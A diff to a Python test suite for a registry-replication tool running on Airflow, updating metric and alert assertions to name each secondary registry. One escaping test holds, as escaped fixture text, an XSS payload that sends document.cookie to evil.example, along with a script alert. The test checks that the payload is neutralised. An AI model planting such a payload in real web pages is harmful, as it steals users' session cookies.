@@ -172,14 +172,19 @@ def test_metrics_after_pushes_a_failed_layer_and_a_reconcile(
     assert run("registry_sync", {"repositories": ["group/ok"]}).state == "success"
 
     m = scrape(app)
-    assert m[("registry_replication_events_pending", ())] == 1  # group/new:v1
-    assert m[("registry_replication_oldest_pending_event_age_seconds", ())] > 0
+    on = (("secondary", "registry_secondary"),)  # every per-secondary series names its secondary
+    assert m[("registry_replication_events_pending", on)] == 1  # group/new:v1
+    assert m[("registry_replication_oldest_pending_event_age_seconds", on)] > 0
     assert {k[1][0][1]: v for k, v in m.items() if k[0] == "registry_replication_events_total"} == {
         "done": 2,
         "failed": 1,
         "rejected": 1,
     }
-    assert {k[1][0][1]: v for k, v in m.items() if k[0] == "registry_replication_repositories"} == {
+    assert {
+        dict(k[1])["state"]: v
+        for k, v in m.items()
+        if k[0] == "registry_replication_repositories" and dict(k[1])["secondary"] == on[0][1]
+    } == {
         "synced": 2,
         "pending": 0,
         "failed": 1,
@@ -187,10 +192,10 @@ def test_metrics_after_pushes_a_failed_layer_and_a_reconcile(
         "never": 0,
     }
     # The repositories replicated whole by their first run count as verified at blobs.
-    assert {
-        k[1][0][1] for k in m if k[0] == "registry_replication_last_verified_timestamp_seconds"
-    } == {"blobs"}
-    assert {k[1][0][1]: v for k, v in m.items() if k[0] == "registry_replication_tags"} == {
+    assert {k[1] for k in m if k[0] == "registry_replication_last_verified_timestamp_seconds"} == {
+        (("level", "blobs"), *on)
+    }
+    assert {dict(k[1])["side"]: v for k, v in m.items() if k[0] == "registry_replication_tags"} == {
         "primary": 4,
         "secondary": 3,
     }
@@ -218,7 +223,7 @@ def test_metrics_after_pushes_a_failed_layer_and_a_reconcile(
     from registry_replication.airflow.status_page import create_app
 
     again = scrape(TestClient(create_app(Store(store.url))))
-    age = ("registry_replication_oldest_pending_event_age_seconds", ())
+    age = ("registry_replication_oldest_pending_event_age_seconds", on)
     assert again.pop(age) >= m.pop(age) and again == m
 
     # The same figures went to Airflow's Stats from the tasks (the sync's report sent last).
@@ -227,10 +232,10 @@ def test_metrics_after_pushes_a_failed_layer_and_a_reconcile(
         for kind, stat, value, tags in stats.sent
         if kind == "gauge"
     }
-    assert gauges[("registry_replication.events_pending", ())] == 1
+    assert gauges[("registry_replication.events_pending", on)] == 1
     assert gauges[("registry_replication.events_total", (("outcome", "rejected"),))] == 1
-    assert gauges[("registry_replication.repositories", (("state", "failed"),))] == 1
-    assert gauges[("registry_replication.tags", (("side", "secondary"),))] == 3
+    assert gauges[("registry_replication.repositories", (*on, ("state", "failed")))] == 1
+    assert gauges[("registry_replication.tags", (*on, ("side", "secondary")))] == 3
     assert gauges[("registry_replication.bytes_copied_total", ())] == copied
     assert (
         sum(
@@ -449,8 +454,13 @@ def test_notifier_on_failure_and_on_recovery_only(
     failed = run("registry_reconcile", {"prune": False})
     assert failed.state == "failed"
     [alert] = RecordingNotifier.calls
-    assert alert["subject"] == "[registry-replication] registry_reconcile failed"
-    assert f"Failed layer: group/app@{rotten.digest} (DIGEST_INVALID)" in alert["message"]
+    assert alert["subject"] == (
+        "[registry-replication] registry_reconcile failed on registry_secondary"
+    )
+    assert (
+        f"registry_secondary: failed layer group/app@{rotten.digest} (DIGEST_INVALID)"
+        in alert["message"]
+    )
     assert alert["run_id"] == failed.run_id
     assert (
         f"/dags/registry_reconcile/runs/{failed.run_id.replace(':', '%3A').replace('+', '%2B')}"
@@ -463,7 +473,7 @@ def test_notifier_on_failure_and_on_recovery_only(
     assert recovered.state == "success"
     assert secondary_reader.head_manifest("group/app", "v1").digest == img.digest
     assert [c["subject"] for c in RecordingNotifier.calls] == [
-        "[registry-replication] registry_reconcile failed",
+        "[registry-replication] registry_reconcile failed on registry_secondary",
         "[registry-replication] registry_reconcile recovered",
     ]
     assert RecordingNotifier.calls[1]["run_id"] == recovered.run_id
@@ -559,7 +569,86 @@ def test_the_alert_e_mail_example_escapes_what_registries_wrote(store, monkeypat
     assert message.startswith("<pre>[registry-replication] registry_events failed\n")
     assert message.endswith("</pre>") and message.count("<") == 2  # <pre> and </pre> alone
     assert (
-        "Failed event: push group/app:v1: get manifest: HTTP 400 MANIFEST_INVALID: "
+        "registry_secondary: failed event push group/app:v1: get manifest: HTTP 400 MANIFEST_INVALID: "
         "&lt;img src=x onerror=&#34;fetch(&#39;//evil.example/&#39;+document.cookie)&#34;&gt; "
         "&amp; &lt;/pre&gt;&lt;script&gt;alert(1)&lt;/script&gt;"
     ) in message
+
+
+def test_an_alert_and_the_stats_name_each_secondary(store, monkeypatch, stats):
+    """Two secondaries, a reconcile that failed on registry_eu only: the subject names it, each
+    line starts with its secondary, and Airflow's ``Stats`` gauges carry the ``secondary`` tag."""
+    from registry_replication.airflow import alerts
+
+    monkeypatch.setenv(
+        "AIRFLOW__REGISTRY_REPLICATION__SECONDARY_CONN_IDS", "registry_secondary,registry_eu"
+    )
+    digest = "sha256:" + "d" * 64
+    store.history.record_run(
+        "registry_reconcile",
+        "manual__1",
+        "failed",
+        {"problems": ["registry_eu: 1 failed blobs"]},
+        [
+            {
+                "repository": "group/app",
+                "digest": digest,
+                "code": "BLOB_UPLOAD_INVALID",
+                "error": "HTTP 400 from the secondary",
+                "task_id": "registry_eu.copy_blobs",
+                "map_index": 0,
+                "secondary": "registry_eu",
+            }
+        ],
+    )
+    store.state.set_repository_state(
+        "registry_eu", [{"repository": "group/app", "state": "failed", "last_error": "HTTP 400"}]
+    )
+    store.state.set_repository_state(
+        "registry_secondary", [{"repository": "group/app", "state": "synced"}]
+    )
+    store.queue.add(
+        [Event("e1", "push", "group/app", "v1", None, None, dt.datetime.now(dt.UTC))],
+        ["registry_secondary", "registry_eu"],
+    )
+    owner, _ = store.queue.claim("registry_eu")
+    store.queue.fail("registry_eu", owner, ["e1"], "HTTP 400 MANIFEST_INVALID")
+
+    alert = alerts.describe(alerts.FAILED, "registry_reconcile", "manual__1", store)
+    assert alert["subject"] == "[registry-replication] registry_reconcile failed on registry_eu"
+    assert alert["text"].splitlines()[1:-1] == [
+        "Problems: registry_eu: 1 failed blobs",
+        f"registry_eu: failed layer group/app@{digest} (BLOB_UPLOAD_INVALID): "
+        "HTTP 400 from the secondary",
+        "registry_eu: failing repositories: group/app",
+        "registry_eu: failed event push group/app:v1: HTTP 400 MANIFEST_INVALID",
+    ]
+
+    alerts.send_stats(store)
+    gauges = {
+        (stat, tuple(tags.items())): value
+        for kind, stat, value, tags in stats.sent
+        if kind == "gauge"
+    }
+    assert gauges[("registry_replication.events_pending", (("secondary", "registry_eu"),))] == 0
+    assert (
+        gauges[("registry_replication.events_pending", (("secondary", "registry_secondary"),))] == 1
+    )
+    assert (
+        gauges[
+            (
+                "registry_replication.repositories",
+                (("secondary", "registry_eu"), ("state", "failed")),
+            )
+        ]
+        == 1
+    )
+    assert (
+        gauges[
+            (
+                "registry_replication.repositories",
+                (("secondary", "registry_secondary"), ("state", "synced")),
+            )
+        ]
+        == 1
+    )
